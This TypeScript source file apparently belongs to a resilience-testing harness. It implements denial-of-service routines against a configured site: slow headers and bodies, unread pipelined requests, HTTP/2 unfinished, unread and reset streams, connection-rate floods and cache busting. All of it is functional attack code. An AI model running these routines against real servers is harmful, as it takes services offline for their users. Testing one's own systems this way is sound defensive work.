import { connect, constants, type ClientHttp2Session } from 'node:http2';
import {
  countStatus,
  keepOpen,
  open,
  pause,
  SITE,
  untilClosed,
  type Attack,
  type AttackContext,
  type AttackKind,
} from './attack.ts';

/** How many connections an attacker holds, unless the kind says otherwise. */
const CONNECTIONS = 300;
const IDLE_CONNECTIONS = 1_000;
/** Attackers that ask as fast as they are answered. */
const WORKERS = 50;

const GET = `GET /products HTTP/1.1\r\nHost: ${SITE}\r\n`;

/** Connections that send nothing. */
const idleConnections: Attack = (context) =>
  keepOpen(context, IDLE_CONNECTIONS, (socket) => untilClosed(socket, context));

/** Requests whose headers come a byte a second and never end. */
const slowHeaders: Attack = (context) =>
  keepOpen(context, CONNECTIONS, (socket) => {
    context.counts.sent += 1;
    socket.write(`${GET}X-Slow: `);
    return untilClosed(socket, context, () => socket.write('a'));
  });

/** Requests whose body comes a byte a second and never ends. */
const slowBodies: Attack = (context) =>
  keepOpen(context, CONNECTIONS, (socket) => {
    context.counts.sent += 1;
    socket.write(
      `POST /api/beacons HTTP/1.1\r\nHost: ${SITE}\r\nContent-Type: text/plain\r\nContent-Length: 100\r\n\r\n`,
    );
    return untilClosed(socket, context, () => socket.write('a'));
  });

/**
 * Requests one after the other on a connection, whose responses are never read. With the small buffers of the attacker's host (container.ts), about sixty
 * pages fill the kernel of the site.
 */
const PIPELINED = 80;
/**
 * So many connections come one by one, until the limit of requests refuses the rest; the next wave comes when that limit, which looks back for 10 s, has
 * forgotten those that were served. Whoever asks all the time is refused before a connection is full.
 */
const WAVE = { connections: 45, apartMs: 200, everyMs: 14_000 };

const slowReaders: Attack = async (context) => {
  const { signal } = context;
  const unread: Promise<void>[] = [];
  // It aborts while this waits.
  const isOver = (): boolean => signal.aborted;
  while (!signal.aborted) {
    const next = pause(WAVE.everyMs, signal);
    for (let count = 0; count < WAVE.connections && !isOver(); count += 1) {
      unread.push(leaveUnread(context));
      await pause(WAVE.apartMs, signal);
    }
    await next;
  }
  await Promise.all(unread);
};

/** Resolves when the connection is closed. */
async function leaveUnread(context: AttackContext): Promise<void> {
  const socket = await open(context);
  if (socket === undefined) return;
  context.counts.sent += PIPELINED;
  socket.write(`${GET}\r\n`.repeat(PIPELINED));
  socket.pause();
  await new Promise<void>((resolve) => {
    const end = (): void => void socket.destroy();
    context.signal.addEventListener('abort', end, { once: true });
    // A closed connection is only noticed by reading or writing; this writes.
    const timer = setInterval(() => socket.write('\r\n'), 1_000);
    socket.once('close', () => {
      clearInterval(timer);
      context.signal.removeEventListener('abort', end);
      resolve();
    });
  });
}

/** Connections over HTTP/2 that open streams: requests without an end, responses that may not be sent, and streams that are reset at once. */
const SESSIONS = 10;
const STREAMS = 100;

const http2Streams: Attack = async (context) => {
  await Promise.all(
    Array.from({ length: SESSIONS }, async (_, index) => {
      while (!context.signal.aborted) {
        await abuseSession(context, (['unfinished', 'unread', 'reset'] as const)[index % 3] ?? 'reset');
        await pause(200, context.signal);
      }
    }),
  );
};

function openSession({ target, counts }: AttackContext, isRead: boolean): Promise<ClientHttp2Session | undefined> {
  const { host, port, isTls } = target;
  const session = connect(`${isTls ? 'https' : 'http'}://${host}:${port}`, {
    rejectUnauthorized: false,
    settings: { initialWindowSize: isRead ? 65_535 : 0, enablePush: false },
  });
  return new Promise((resolve) => {
    let isOpen = false;
    session.once('connect', () => {
      isOpen = true;
      counts.connected += 1;
      counts.open += 1;
      resolve(session);
    });
    session.on('error', () => undefined);
    session.once('close', () => {
      if (isOpen) counts.open -= 1;
      else counts.refused += 1;
      resolve(undefined);
    });
  });
}

async function abuseSession(context: AttackContext, how: 'unfinished' | 'unread' | 'reset'): Promise<void> {
  const { counts, signal } = context;
  const session = await openSession(context, how !== 'unread');
  if (session === undefined) return;
  const closed = new Promise<void>((resolve) => {
    session.once('close', resolve);
  });
  const end = (): void => {
    session.destroy();
  };
  signal.addEventListener('abort', end, { once: true });
  // Everything about the session changes while this waits.
  const isOver = (): boolean => session.closed || session.destroyed || signal.aborted;
  while (!isOver()) {
    for (let count = 0; count < STREAMS && !isOver(); count += 1) {
      counts.sent += 1;
      const method = how === 'unfinished' ? 'POST' : 'GET';
      const stream = session.request(
        { ':method': method, ':path': how === 'unfinished' ? '/api/beacons' : '/products', ':authority': SITE },
        { endStream: how !== 'unfinished' },
      );
      stream.on('error', () => undefined);
      stream.once('response', ({ ':status': status }) => {
        counts.statuses[String(status)] = (counts.statuses[String(status)] ?? 0) + 1;
      });
      if (how === 'reset') stream.close(constants.NGHTTP2_CANCEL);
      else if (how === 'unfinished') stream.resume();
    }
    await Promise.race([closed, pause(how === 'reset' ? 20 : 1_000, signal)]);
  }
  signal.removeEventListener('abort', end);
  session.destroy();
  await closed;
}

/** Connections that are closed as soon as they are there. */
const connectionRate: Attack = async (context) => {
  const { signal } = context;
  await Promise.all(
    Array.from({ length: WORKERS }, async () => {
      while (!signal.aborted) {
        const socket = await open(context);
        // Node resets no connection below TLS.
        if (context.target.isTls) socket?.destroy();
        else socket?.resetAndDestroy();
        await pause(5, signal);
      }
    }),
  );
};

/** Pages under addresses that nobody has asked for: each is fetched from the origin. */
const cacheBusting: Attack = async (context) => {
  const { counts, signal } = context;
  await keepOpen(context, WORKERS, async (socket) => {
    while (!signal.aborted && !socket.destroyed) {
      counts.sent += 1;
      const path = `/products?page=1&bust=${String(Math.random()).slice(2)}`;
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${SITE}\r\n\r\n`);
      if (!(await readResponse(socket, context))) break;
    }
    socket.destroy();
  });
};

/** Whether a whole response came: it ends with the last bytes of a page. */
function readResponse(socket: NonNullable<Awaited<ReturnType<typeof open>>>, context: AttackContext): Promise<boolean> {
  const { counts, signal } = context;
  return new Promise((resolve) => {
    let text = '';
    const end = (whole: boolean): void => {
      socket.off('data', take);
      socket.off('close', broken);
      signal.removeEventListener('abort', broken);
      resolve(whole);
    };
    const broken = (): void => {
      end(false);
    };
    const take = (chunk: Buffer): void => {
      text = (text + chunk.toString('latin1')).slice(-16_384);
      if (!/<\/html>\s*(0\r\n\r\n)?$/.test(text)) return;
      end(true);
    };
    socket.once('data', (chunk: Buffer) => {
      countStatus(counts, chunk);
    });
    socket.on('data', take);
    socket.once('close', broken);
    signal.addEventListener('abort', broken, { once: true });
  });
}

export const ATTACK_OF: Readonly<Record<AttackKind, Attack>> = {
  'idle-connections': idleConnections,
  'slow-headers': slowHeaders,
  'slow-bodies': slowBodies,
  'slow-readers': slowReaders,
  'http2-streams': http2Streams,
  'connection-rate': connectionRate,
  'cache-busting': cacheBusting,
};
